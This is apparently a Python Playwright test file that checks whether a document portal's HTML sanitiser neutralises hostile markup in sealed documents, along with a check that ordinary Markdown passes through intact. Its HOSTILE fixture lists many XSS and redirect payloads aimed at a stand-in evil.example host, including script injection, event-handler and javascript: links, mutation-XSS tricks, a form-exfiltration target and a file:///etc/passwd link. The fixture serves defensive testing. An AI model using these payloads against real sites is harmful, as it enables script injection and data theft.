"""HTML that was really sealed, by whoever could: none of it acts, loads, sends or leads away."""

from __future__ import annotations

import json
import shutil
from datetime import date

import pytest
from playwright.sync_api import Request, expect

from gpai_portal.sealing.keys import Identity
from gpai_portal.sealing.manifest import read_sealed
from gpai_portal.sealing.seal import seal
from gpai_portal.sealing.sets import CATALOGUE, SEARCH, Recovery
from tests.browser.conftest import NewPage
from tests.browser.gate.desk import DEMO, READER, Desk, part, unlock
from tests.conftest import SAMPLE

pytestmark = pytest.mark.browser

HOSTILE = """
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/"><base target="_blank">
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p">
<style>@import "https://evil.example/y.css"; body { display: none }</style>
<script>window.ran = 1</script><script src="https://evil.example/x.js"></script>
<img src=x onerror="window.ran = 1"><img src="https://evil.example/i.png" srcset="https://evil.example/j.png 2x">
<iframe src="https://evil.example/f" srcdoc="<script>parent.ran = 1</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form id="form" action="https://evil.example/form"><input name="paste"><button>Send</button></form>
<svg onload="window.ran = 1"><a href="javascript:window.ran = 1"><text>svg</text></a><use href="https://evil.example/u"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1"></style></mglyph></table></mtext></math>
<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>
<template><script>window.ran = 1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>
<details open ontoggle="window.ran = 1"><summary>Summary</summary>Details</details>
<dialog open><p>Dialog</p></dialog><marquee onstart="window.ran = 1">Marquee</marquee>
<a id="js" href="javascript:window.ran = 1">javascript</a><a href=" java&#10;script:window.ran=1">split</a>
<a href="data:text/html,<script>window.ran=1</script>">data</a><a href="vbscript:x">vb</a><a href="blob:x">blob</a>
<a href="file:///etc/passwd">file</a><a ping="https://evil.example/ping" href="#ping" target="_blank">ping</a>
<p style="background: url(https://evil.example/bg)">Styled</p><p style="position: fixed; inset: 0">Over all</p>
<p class="md-overlay" onclick="window.ran = 1" data-part="lock" slot="x" is="y-z" contenteditable>Class</p>
<p id="text">Text <strong>stays</strong>.</p>
<meta http-equiv="refresh" content="0; url=https://evil.example/second"><base href="https://evil.example/">
<table><tr><td style="text-align:right">1</td></tr></table>
<a href="https://web.example/">web</a><a href="mailto:a@web.example">mail</a><a href="#text">here</a>
"""


def test_hostile_html_that_was_sealed(new_page: NewPage, desk: Desk) -> None:
    folder = desk.site / "sealed"
    genuine = read_sealed(folder)
    assert genuine
    recovery = Identity.parse((SAMPLE / "private/recovery.key").read_text(encoding="utf-8"))
    reader = Identity.parse(DEMO.read_text(encoding="utf-8"))
    state = Recovery(genuine.portal, bytes(32), 1, b"", frozenset())
    entry = {"id": state.object_id("d"), "title": "Guide", "about": "", "language": "en", "attachments": []}
    catalogue = {"provider": "Skriftvang", "groups": [{"title": "All", "documents": [entry]}]}
    text = {"title": "Guide", "language": "en", "html": HOSTILE, "toc": []}
    objects = [(CATALOGUE, catalogue), (SEARCH, []), ("d", text)]
    shutil.rmtree(folder)
    payloads = [(name, json.dumps(data).encode()) for name, data in objects]
    seal(folder, None, state, payloads, [reader.public], recovery, date(2026, 11, 24), last=1)

    page = new_page()
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("request", note)
    page.goto(desk.base + READER)
    unlock(page)
    part(page, "list").get_by_role("link", name="Guide").click()
    document = part(page, "document")
    expect(document).to_contain_text("Text stays.")
    expect(document.locator("p#text strong")).to_be_visible()
    page.wait_for_timeout(1500)  # a refresh would be over by now
    assert page.url.startswith(desk.base + READER)
    assert page.evaluate("window.ran ?? null") is None
    assert not [url for url in asked if "evil.example" in url]
    found = document.evaluate(
        """root => [...root.querySelectorAll("*")].map(e => [e.localName, e.namespaceURI,
          ...[...e.attributes].map(a => `${a.name}=${a.value}`)])"""
    )
    assert {name for name, *_ in found} <= {"a", "img", "p", "strong", "table", "tbody", "tr", "td"}
    assert {space for _, space, *_ in found} == {"http://www.w3.org/1999/xhtml"}
    attributes = {attribute for _, _, *attributes in found for attribute in attributes}
    assert attributes == {
        "id=js",
        "id=text",
        "href=#ping",
        "href=#text",
        "href=https://web.example/",
        "href=mailto:a@web.example",
        "style=text-align:right",
        "title=</noscript><img src=x onerror=window.ran=1>",  # the words that a pointer shows
    }
    expect(document).to_contain_text("Details")


def test_documents_of_the_provider_lose_nothing(new_page: NewPage, desk: Desk) -> None:
    """What the command renders is on the list: every document of the sample, and each kind of Markdown."""
    guide = desk.folder / "private/documents/skrift-2.0/skumringsvej-guide.md"
    more = """

# One *two* **three** ~~four~~ `five`

1. a
2. b
   - c

3) d

> quoted

| left | right | middle |
| :--- | ---: | :---: |
| 1 | 2 | 3 |

***

Line\\
break, [link](https://web.example/ "title"), <https://auto.example/>, &lt;b&gt;

    indented code

```c++
fenced
```
"""
    guide.write_text(guide.read_text(encoding="utf-8") + more, encoding="utf-8")
    desk.seal()
    found = read_sealed(desk.folder / "content/sealed")
    assert found
    section = found.open(Identity.parse(DEMO.read_text(encoding="utf-8")))
    catalogue = json.loads(section.read(found.catalogue))
    ids = {document["id"] for group in catalogue["groups"] for document in group["documents"]}
    page = new_page()
    page.goto(desk.base + READER)
    for id_ in sorted(ids):
        html = json.loads(section.read(id_))["html"]
        kept, whole = page.evaluate(
            """async ([base, html]) => {
              const { sanitised } = await import(`${base}assets/gate/sanitiser.js`);
              const box = document.createElement("div");
              box.append(sanitised(html));
              return [box.innerHTML, new DOMParser().parseFromString(html, "text/html").body.innerHTML];
            }""",
            [desk.base, html],
        )
        assert kept == whole
